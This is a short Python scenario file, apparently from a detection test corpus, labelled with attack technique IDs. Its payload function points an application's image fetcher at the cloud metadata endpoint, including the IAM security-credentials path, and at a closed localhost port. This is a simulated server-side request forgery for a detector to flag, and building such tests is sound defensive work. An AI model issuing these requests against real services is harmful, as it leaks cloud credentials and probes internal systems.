"""
id: S16
name: imds-via-own-fetcher
class: mimicry
phase: serve
trigger: request
evidence: [network]
techniques: [T1190, T1552.005, T1016, AML.T0049, AML.T0106]
servers: [fastapi]
seconds: 15
what: >
  The code that fetches pictures from hosts all over is told to fetch from the cloud's metadata address and from a closed
  port of its own machine. New hosts are normal for it; hosts of that kind are not.
"""

import contextlib

from corpus import media

METADATA = "http://169.254.169.254/latest/meta-data"


def payload(world):
    closed = world.random.randint(20000, 29999)
    paths = [f"{METADATA}/", f"{METADATA}/iam/security-credentials/{world.word()}", f"http://127.0.0.1:{closed}/"]
    for url in paths:
        with contextlib.suppress(OSError):
            media.fetch(url)
        world.sleep(world.random.uniform(0.5, 2))
